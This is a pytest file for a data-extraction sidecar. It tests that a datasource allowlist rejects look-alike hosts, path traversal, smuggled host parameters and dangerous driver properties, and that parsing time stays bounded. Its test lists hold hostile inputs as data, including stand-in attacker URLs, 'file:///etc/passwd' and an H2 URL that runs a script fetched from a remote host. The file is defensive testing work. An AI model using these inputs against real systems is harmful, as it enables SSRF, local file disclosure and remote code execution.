"""Malicious datasources: the allowlist holds, no local file is disclosed, and parsing time is bounded."""

import ssl
import time
from pathlib import Path
from typing import Any

import certifi
import pytest

from sidecar.errors import BadRequest, InvalidField, SourceError
from sidecar.extract.drivers import create_reader, create_source
from sidecar.extract.mysql.session import _tls
from sidecar.extract.postgresql.connect import asyncpg_parameters, libpq_parameters
from sidecar.extract.reader import Source
from sidecar.extract.source.allowlist import matches
from sidecar.model.datasource import Datasource

ALLOWED = ("postgresql://db.example.org:5432/*", "mysql://10.0.*:3306/shop", "sqlite:///srv/data/*", "duckdb:///srv/data/*.duckdb")


def source_from_url(url: str, allowed: tuple[str, ...] | None = ALLOWED, **details: Any) -> Source:
    return create_source(Datasource(id="tested", url=url, **details), None, allowed)


@pytest.mark.parametrize(
    "url",
    [
        "jdbc:postgresql://db.example.org:5432/shop", "postgresql://DB.example.org/shop", "jdbc:mysql://10.0.7.1/shop",
        "jdbc:sqlite:/srv/data/a/b.db", "duckdb:////srv/data/x.duckdb", "jdbc:sqlite:/srv/data/../data/x.db",
    ],
)  # fmt: skip
def test_an_allowed_source_is_accepted(url: str) -> None:
    assert source_from_url(url).id == "tested"


@pytest.mark.parametrize(
    "url",
    [
        # other hosts that look like the allowed one
        "jdbc:postgresql://evil.org:5432/shop", "jdbc:postgresql://evil.org:5432/db.example.org:5432/shop",
        "jdbc:postgresql://db.example.org@evil.org:5432/shop", "jdbc:postgresql://db.example.org:5432@evil.org/shop",
        "jdbc:postgresql://db.example.org:x@evil.org:5432/shop", "jdbc:postgresql://db.example.org,evil.org:5432/shop",
        "jdbc:postgresql://db.example.org:5432,evil.org:5432/shop", "jdbc:postgresql://db.example.org.evil.org:5432/shop",
        "jdbc:postgresql://db.example.org%2eevil.org/shop", "jdbc:postgresql://db.example.org%00.evil.org/shop",
        "jdbc:postgresql://db.example.org\\@evil.org/shop", "jdbc:postgresql://db.example.org#@evil.org/shop",
        "jdbc:postgresql://db.example.org?host=evil.org", "postgresql://db.example.org/shop?hostaddr=1.2.3.4",
        "postgresql://db.example.org/shop?service=x", "jdbc:postgresql://[::1]:5432/shop", "jdbc:postgresql://[db.example.org]:5432/shop",
        "jdbc:postgresql:shop", "jdbc:postgresql:///shop", "postgresql:///shop?host=/var/run/postgresql", "postgresql://%2Fvar%2Frun/shop",
        "postgresql:////var/run/shop", "jdbc:postgresql://db.example.org:5433/shop", "jdbc:postgresql://DB.EXAMPLE.ORG.:5432/shop",
        "jdbc:mysql://167772161:3306/shop", "jdbc:mysql://0x0a000001/shop", "jdbc:mysql://0x0a.0.0.1/shop", "jdbc:mysql://10.0.1/shop",
        "jdbc:mysql://10.0.0.010/shop", "jdbc:mysql://10.0.0.1.evil.org/shop", "jdbc:mysql://[::ffff:10.0.0.1]/shop",
        "jdbc:mysql://[::ffff:a00:1]/shop", "jdbc:mysql://10%2e0%2e0%2e1/shop", "jdbc:mysql://\uff11\uff10.0.0.1/shop",
        "jdbc:mysql://10.0.evil.org:3306/shop", "jdbc:mysql://10.0.0.1/shop2", "jdbc:mysql://10.0.0.1/other/shop",
        "jdbc:mysql://address=(host=evil.org)/shop", "jdbc:mysql:loadbalance://10.0.0.1,evil.org/shop", "jdbc:mariadb://10.0.0.1/shop",
        "mysql+pymysql:///shop?unix_socket=/run/mysqld/mysqld.sock", "alike://db.example.org/x",
        # other files
        "jdbc:sqlite:/srv/other/x.db", "jdbc:sqlite:/srv/data/../other/x.db", "jdbc:sqlite:/srv/data/%2e%2e/other/x.db",
        "jdbc:sqlite:/srv/data", "jdbc:sqlite:/srv/database/x.db", "jdbc:sqlite:srv/data/x.db", "jdbc:sqlite:file:/srv/data/x.db",
        "jdbc:sqlite:file:/srv/other/x.db?mode=rwc", "jdbc:sqlite::memory:", "jdbc:sqlite:/srv/other/x.db?/srv/data/x.db",
        "jdbc:sqlite:/srv/data/x.db?vfs=unix-none", "jdbc:sqlite:/srv/data/x.db?cache=shared", "sqlite:///srv/data/x.db", "sqlite://",
        "sqlite+pysqlcipher://:pw@//srv/data/x.db", "jdbc:sqlite:\\\\host\\share\\x.db", "jdbc:sqlite:/srv/data/x\0.db",
        "jdbc:duckdb:/srv/other/x.duckdb", "jdbc:duckdb:/srv/data/x.db", "jdbc:duckdb:md:x", "jdbc:duckdb:motherduck:x",
        "jdbc:duckdb:http://evil.org/x.duckdb", "jdbc:duckdb:s3://evil/x.duckdb", "jdbc:duckdb:ducklake:/srv/data/x.duckdb",
        "jdbc:duckdb:/srv/data/x.duckdb?enable_external_access=true", "jdbc:duckdb:/srv/data/x.duckdb?temp_directory=/tmp",
        "jdbc:duckdb:/srv/data/x.duckdb?allow_unsigned_extensions=true", "jdbc:duckdb:/srv/data/x.duckdb?home_directory=/",
        # hosts inside other parts of the URL
        "jdbc:oracle:thin:@//10.0.0.1:1521/x)(HOST=evil.org", "oracle://10.0.0.1/x)(HOST=evil.org", "oracle://10.0.0.1:9999",
        "oracle+oracledb://10.0.0.1/?service_name=x", "jdbc:oracle:thin:@alias", "jdbc:sqlserver://10.0.0.1\\x;databaseName=x",
        "jdbc:sqlserver://10.0.0.1;serverName=evil.org;databaseName=x", "mssql+pymssql://10.0.0.1/x?server=evil.org",
        "", "jdbc:", "jdbc:postgresql", "//db.example.org/shop", "file:///etc/passwd", "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x'",
    ],
)  # fmt: skip
def test_a_source_that_only_looks_allowed_is_rejected(url: str) -> None:
    with pytest.raises(BadRequest):
        source_from_url(url)


@pytest.mark.parametrize("url", ["oracle://h/x)(HOST=evil.org", "oracle://h:9999", "jdbc:oracle:thin:@alias", "jdbc:sqlserver://h\\x"])
def test_a_host_cannot_hide_in_another_part_of_the_url_even_if_every_source_is_allowed(url: str) -> None:
    with pytest.raises(InvalidField, match=r"jdbc\.url"):
        source_from_url(url, ("*://*",))


def test_a_link_out_of_the_allowed_folder_is_rejected(tmp_path: Path) -> None:
    inside, outside = tmp_path / "in", tmp_path / "out"
    inside.mkdir()
    outside.mkdir()
    (inside / "x.db").symlink_to(outside / "x.db")
    (inside / "folder").symlink_to(outside)
    for path in ("x.db", "folder/x.db", "folder/../x.db"):
        with pytest.raises(BadRequest, match="SIDECAR_ALLOWED_SOURCES"):
            source_from_url(f"jdbc:sqlite:{inside}/{path}", (f"sqlite://{inside}/*",))


@pytest.mark.parametrize(
    ("pattern", "host", "allowed"),
    [
        ("postgresql://10.0.*:5432/*", "10.0.0.7", True),
        ("postgresql://10.0.*:5432/*", "10.0.evil.org", False),
        ("postgresql://10.0.0.?:*", "10.0.0.7", True),
        ("postgresql://10.0.0.?:*", "10.0.0.x", False),
        ("postgresql://192.168.*.*/*", "192.168.1.evil", False),
        ("postgresql://db*:5432/*", "db7.example.org", True),
        ("postgresql://1.*.example.org:5432/*", "1.db.example.org", True),
        ("postgresql://[fd00:*]:5432/*", "fd00::1", True),
        ("postgresql://[fd00:*]:5432/*", "fd01::1", False),
        ("postgresql://*:5432/*", "anything.org", True),
        ("postgresql://[!a]b:5432/*", "cb", False),
    ],
)
def test_a_pattern_of_an_ip_address_matches_no_host_name(pattern: str, host: str, allowed: bool) -> None:
    assert matches(Source(id="x", database="postgresql", host=host, port=5432, catalog="shop"), pattern) is allowed


@pytest.mark.parametrize("pattern", ["sqlite:///*a*a*a*a*a*a*b", "sqlite:///*/*/*/*/*/x.db", "sqlite:///????*????*?*?*z"])
def test_matching_time_of_a_name_is_bounded(pattern: str) -> None:
    clock = time.process_time()
    assert not matches(Source(id="x", database="sqlite", catalog="/" + "a/" * 50_000), pattern)
    assert time.process_time() - clock < 2


@pytest.mark.parametrize("scheme", ["jdbc:sqlserver://h;", "jdbc:oracle:thin:@", "jdbc:postgresql://", "jdbc:sqlite:", "jdbc:mysql:"])
@pytest.mark.parametrize("piece", ["a", " ", "a={", "a=b;", "@", "%", "/", "[", ":1", "a:"])
def test_parsing_time_of_a_url_is_bounded(scheme: str, piece: str) -> None:
    clock = time.process_time()
    for size in (1_900, 1_000_000):
        try:
            source_from_url(scheme + piece * (size // len(piece)), ("*://*",))
        except BadRequest:
            continue
    assert time.process_time() - clock < 2


def test_dangerous_properties_are_rejected() -> None:
    hostile = {
        "postgresql": ("sslkey", "sslcert", "sslpassword", "service", "passfile", "options", "host", "hostaddr", "socketFactory",
                       "sslfactory", "loggerFile", "krbsrvname", "gsslib", "target_session_attrs", "dsn", "sslcrl"),
        "mysql": ("allowLoadLocalInfile", "allowUrlInLocalInfile", "allowLocalInfile", "local_infile", "init_command", "unix_socket",
                  "localSocket", "read_default_file", "sessionVariables", "autoDeserialize", "queryInterceptors", "allowMultiQueries",
                  "defaultAuthenticationPlugin", "socksProxyHost", "propertiesTransform", "ssl_key"),
        "sqlite": ("load_extension", "enable_load_extension", "vfs", "uri", "isolation_level", "factory"),
        "duckdb": ("enable_external_access", "allow_unsigned_extensions", "autoinstall_known_extensions", "extension_directory",
                   "temp_directory", "home_directory", "custom_extension_repository", "lock_configuration", "secret_directory"),
        "sqlserver": ("conn_properties", "server", "host", "jaasConfigurationName", "socketFactoryClass", "trustStore"),
        "oracle": ("config_dir", "wallet_location", "dsn", "mode", "oracle.net.tns_admin", "javax.net.ssl.trustStore"),
    }  # fmt: skip
    for database, names in hostile.items():
        location = "/x" if database in ("sqlite", "duckdb") else "thin:@//h/x" if database == "oracle" else "//h"
        for name in names:
            with pytest.raises(InvalidField, match=r"jdbc\.properties\."):
                source_from_url(f"jdbc:{database}:{location}", ("*://*",), properties={name: "x"})


def test_a_server_never_receives_the_passwords_of_this_host(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PGPASSWORD", "canary")
    source = source_from_url("jdbc:postgresql://h/x", None, username="u")
    assert libpq_parameters(source)["password"] == asyncpg_parameters(source)["password"] == ""
    assert libpq_parameters(source)["passfile"] == "/dev/null/none"
    assert libpq_parameters(source)["gssencmode"] == "disable"


@pytest.mark.parametrize("kind", ["missing", "unreadable", "folder", "device", "something else", "nul"])
def test_the_error_does_not_reveal_which_files_exist(tmp_path: Path, kind: str) -> None:
    (tmp_path / "something else").write_text("no certificate")
    (tmp_path / "folder").mkdir()
    path = {"device": "/dev/zero", "unreadable": "/proc/1/mem", "nul": "/x\0y"}.get(kind, str(tmp_path / kind))
    messages = []
    for url in ("jdbc:postgresql://h/x?sslmode=verify-full", "jdbc:postgresql://h/x?sslmode=require", "jdbc:mysql://h/x?sslMode=VERIFY_CA"):
        source = source_from_url(url, None, username="u", properties={"sslrootcert": path})
        with pytest.raises(InvalidField) as caught:
            create_reader(source) if source.database == "postgresql" else _tls(source)
        messages.append(str(caught.value))
        assert caught.value.__cause__ is None
    assert set(messages) == {
        "[jdbc.properties.sslrootcert] must be the path of a PEM file on the sidecar's host with the certificate of an authority"
    }


@pytest.mark.parametrize("mode", ["disable", "allow", "prefer", ""])
def test_the_certificate_is_not_opened_unless_it_is_used(mode: str) -> None:
    source = source_from_url(f"jdbc:postgresql://h/x?sslrootcert=/dev/zero{mode and f'&sslmode={mode}'}", None, username="u")
    assert "sslrootcert" not in libpq_parameters(source)
    assert asyncpg_parameters(source)["ssl"] == (mode or "prefer")


def test_both_postgresql_drivers_verify_the_given_authority() -> None:
    source = source_from_url("jdbc:postgresql://h/x?sslmode=require", None, username="u", properties={"sslrootcert": certifi.where()})
    assert libpq_parameters(source)["sslmode"] == "verify-ca"
    assert asyncpg_parameters(source)["ssl"].verify_mode == ssl.CERT_REQUIRED


def test_a_url_cannot_load_a_module_that_is_not_a_dialect(monkeypatch: pytest.MonkeyPatch) -> None:
    with pytest.raises(BadRequest):
        source_from_url("os.system+x://h/x", None)
    with pytest.raises((BadRequest, SourceError)):
        source_from_url("sidecar.cli://h/x", None)
